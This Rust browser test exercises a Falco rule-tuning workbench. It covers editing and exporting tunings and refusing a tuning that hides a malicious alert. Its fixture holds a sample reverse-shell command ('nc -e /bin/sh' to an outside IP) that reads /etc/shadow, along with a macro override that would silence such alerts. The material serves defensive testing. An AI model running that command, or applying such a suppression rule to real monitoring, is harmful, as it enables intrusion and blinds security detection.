//! The mitigation workbench: choose, edit, export.

use std::io::{Cursor, Read};

use anyhow::{Result, ensure};

use super::desk::{says, until};
use super::{Stage, fixture};

/// Types into the editor as a person does, in one go.
const WRITE: &str = "const field = document.getElementById('bench-text'); field.value = arguments[0](field.value); \
                     field.dispatchEvent(new Event('input', {bubbles: true}));";

/// Presses the first button of the workbench that says so.
fn press(words: &str) -> String {
    format!(
        "[...document.querySelectorAll('.bench button')].find(one => one.textContent.trim() === '{words}').click()"
    )
}

/// An agent that reads the same file every day, and somebody who sends it away.
const ALERTS: &str = r#"{"rule":"Read sensitive file untrusted","priority":"Warning","source":"syscall","output_fields":{"proc.exepath":"/usr/bin/agent","container.image.repository":"registry.example/agent","k8s.ns.name":"platform","fd.name":"/etc/shadow","evt.type":"openat"}}
{"rule":"Read sensitive file untrusted","priority":"Warning","source":"syscall","output_fields":{"proc.exepath":"/tmp/.x/nc","proc.name":"nc","proc.cmdline":"nc -e /bin/sh 203.0.113.9 4444","container.id":"host","fd.name":"/etc/shadow","evt.type":"openat"}}
"#;

pub async fn a_tuning_is_chosen_edited_and_exported(stage: &Stage<'_>) -> Result<()> {
    stage.browser.choose(&[&fixture("ptrace_event_generator_kubernetes.json").canonicalize()?]).await?;
    stage.browser.reaches("report").await?;
    stage.browser.click("tab-mitigations").await?;
    until(stage, "document.querySelector('.candidate[data-chosen=\"true\"]')").await?;
    stage.browser.script(&press("Show and edit the file"), vec![]).await?;
    says(stage, "bench-proof", "hidden, as wanted1").await?;
    for (width, scheme) in [(360, "light"), (768, "dark"), (1280, "light"), (1920, "dark")] {
        stage.browser.prefer(scheme).await?;
        stage.browser.resize(width, 900).await?;
        let wide = stage.browser.script("return document.documentElement.scrollWidth", vec![]).await?;
        ensure!(wide.as_u64().is_some_and(|wide| wide <= u64::from(width)), "{wide} pixels wide at {width}");
        stage.browser.screenshot(&format!("workbench-{width}-{scheme}")).await?;
    }
    let broken = WRITE.replace("arguments[0](field.value)", "'- macro: x\\n  condition: or ('");
    stage.browser.script(&broken, vec![]).await?;
    says(stage, "bench-proof", "It does not load").await?;
    until(stage, "document.querySelector('#bench-proof .diagnostic__place')").await?;
    stage.browser.screenshot("workbench-error").await?;
    stage.browser.script(&press("Choose"), vec![]).await?;
    says(stage, "bench-proof", "hidden, as wanted1").await?;
    let edited = WRITE.replace("arguments[0](field.value)", "'# mine\\n' + field.value");
    stage.browser.script(&edited, vec![]).await?;
    says(stage, "bench-proof", "hidden, as wanted1").await?;
    let bytes = stage.browser.download("bench-zip", "falco-mitigations.zip").await?;
    let mut archive = zip::ZipArchive::new(Cursor::new(bytes))?;
    let mut tuning = String::new();
    archive.by_name("falco/known_ptrace_procs.yaml")?.read_to_string(&mut tuning)?;
    ensure!(tuning.starts_with("# mine\n"), "the archive holds {tuning}");
    let mut readme = String::new();
    archive.by_name("README.md")?.read_to_string(&mut readme)?;
    ensure!(readme.contains("Edited by hand"), "{readme}");
    Ok(())
}

pub async fn a_text_that_hides_an_attack_is_refused_until_somebody_insists(stage: &Stage<'_>) -> Result<()> {
    let folder = tempfile::tempdir()?;
    let alerts = folder.path().join("alerts.jsonl");
    std::fs::write(&alerts, ALERTS)?;
    stage.browser.choose(&[&alerts]).await?;
    stage.browser.reaches("report").await?;
    stage.browser.click("tab-mitigations").await?;
    until(stage, "document.querySelector('.candidate[data-chosen=\"true\"]')").await?;
    stage.browser.script(&press("Show and edit the file"), vec![]).await?;
    for form in ["bench-current", "bench-old", "bench-helm"] {
        until(stage, &format!("document.getElementById('{form}-form')")).await?;
    }
    stage.browser.script("document.getElementById('bench-old-form').open = true", vec![]).await?;
    says(stage, "code-bench-old", "append: true").await?;

    let hook = "- macro: user_read_sensitive_file_conditions\\n  condition: or (fd.name = /etc/shadow)\\n  override:\\n    condition: append\\n";
    stage.browser.script(&WRITE.replace("arguments[0](field.value)", &format!("'{hook}'")), vec![]).await?;
    says(stage, "bench-proof", "it hides 1 alert that is judged likely malicious").await?;
    until(stage, "document.getElementById('bench-forms').childElementCount === 0").await?;
    stage.browser.click("bench-zip").await?;
    until(stage, "document.querySelector('.bench__notice').textContent.startsWith('Not saved.')").await?;
    for (width, scheme) in [(360, "dark"), (1280, "light")] {
        stage.browser.prefer(scheme).await?;
        stage.browser.resize(width, 900).await?;
        stage.browser.script("document.getElementById('bench-proof').scrollIntoView()", vec![]).await?;
        stage.browser.screenshot(&format!("workbench-refused-{width}-{scheme}")).await?;
    }

    stage.browser.click("bench-insist").await?;
    says(stage, "code-bench-current", "# WARNING: hides 1 alert that is").await?;
    let bytes = stage.browser.download("bench-zip", "falco-mitigations.zip").await?;
    let mut archive = zip::ZipArchive::new(Cursor::new(bytes))?;
    for name in ["falco", "falco-before-0.37"] {
        let mut tuning = String::new();
        let name = format!("{name}/user_read_sensitive_file_conditions.yaml");
        archive.by_name(&name)?.read_to_string(&mut tuning)?;
        ensure!(tuning.starts_with("# WARNING: hides 1 alert that is"), "{name} holds {tuning}");
    }
    // What is insisted on is a text; another one is looked at anew.
    let longer = WRITE.replace("arguments[0](field.value)", "'# mine\\n' + field.value");
    stage.browser.script(&longer, vec![]).await?;
    until(stage, "!document.getElementById('bench-insist').checked").await?;
    until(stage, "document.getElementById('bench-forms').childElementCount === 0").await?;
    Ok(())
}
